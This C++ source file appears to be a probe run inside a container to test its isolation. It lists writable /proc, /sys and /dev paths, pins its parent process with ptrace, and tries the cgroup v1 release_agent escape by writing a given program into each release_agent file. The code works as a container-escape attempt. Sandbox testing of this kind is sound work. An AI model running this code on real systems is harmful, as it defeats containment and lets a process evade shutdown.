// payload - what a container's program may try that a shell cannot; static, so that it runs in any root.
//
// payload writable: what of /proc, /sys and /dev can be opened for writing and has such a bit; of the processes its own
// alone, as /proc/self.
//
// payload hold: its child traces it and does not let it end; "held" once it does, or "not held".
//
// payload agents PROGRAM: in new user, mount and cgroup namespaces mounts each v1 hierarchy on /tmp and makes PROGRAM
// its release agent. "no namespaces" where it cannot have those, "wrote" where it could do it, at last "tried".
#include <cstdio>
#include <cstring>
#include <initializer_list>
#include <string>

#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

int look(const char* path, const struct stat* status, int kind, FTW* at) {
    const bool process = at->level == 1 && std::strncmp(path, "/proc/", 6) == 0 && path[6] >= '0' && path[6] <= '9';
    if (process) return FTW_SKIP_SUBTREE;
    // Root may open what has no such bit, too, but there is nothing behind it.
    const bool can_be = kind != FTW_SL && (status->st_mode & 0222) != 0;
    if (can_be && ::access(path, W_OK) == 0) {
        const char* const here = std::strstr(path, "/./");
        if (here != nullptr) std::printf("/proc/self%s\n", here + 2);
        else std::printf("%s\n", path);
    }
    return FTW_CONTINUE;
}

bool write(const char* path, const char* text) {
    const int fd = ::open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return false;
    const bool written = ::write(fd, text, std::strlen(text)) == static_cast<ssize_t>(std::strlen(text));
    (void)::close(fd);
    return written;
}

const char* agent = "";
int take(const char* path, const struct stat*, int, FTW*) {
    const char* name = std::strrchr(path, '/');
    if (name != nullptr && std::strcmp(name, "/release_agent") == 0 && write(path, agent))
        std::printf("wrote %s\n", path);
    return FTW_CONTINUE;
}

}  // namespace

int main(int argc, char** argv) {
    const std::string verb = argc > 1 ? argv[1] : "";
    if (verb == "writable") {
        for (const char* path : {"/proc", "/proc/self/.", "/sys", "/dev"}) {
            (void)::nftw(path, look, 64, FTW_PHYS | FTW_ACTIONRETVAL);
        }
        return 0;
    }
    if (verb == "hold") {
        if (::fork() == 0) {
            const bool held = ::ptrace(PTRACE_SEIZE, ::getppid(), nullptr, PTRACE_O_TRACEEXIT) == 0;
            (void)!::write(1, held ? "held\n" : "not held\n", held ? 5 : 9);
        }
        for (;;) ::pause();
    }
    if (verb != "agents" || argc != 3) return 2;
    agent = argv[2];
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
        std::printf("no namespaces\n");
        return 0;
    }
    (void)write("/proc/self/setgroups", "deny");
    (void)write("/proc/self/uid_map", "0 0 1");
    (void)write("/proc/self/gid_map", "0 0 1");
    for (const char* hierarchy : {"rdma", "pids", "memory", "devices", "cpu", "cpuacct", "freezer", "cpuset", "blkio",
                                  "none,name=systemd", "none,name=x"}) {
        if (::mount("none", "/tmp", "cgroup", 0, hierarchy) != 0) continue;
        (void)::nftw("/tmp", take, 64, FTW_PHYS | FTW_ACTIONRETVAL);
        (void)::umount("/tmp");
    }
    std::printf("tried\n");
    return 0;
}
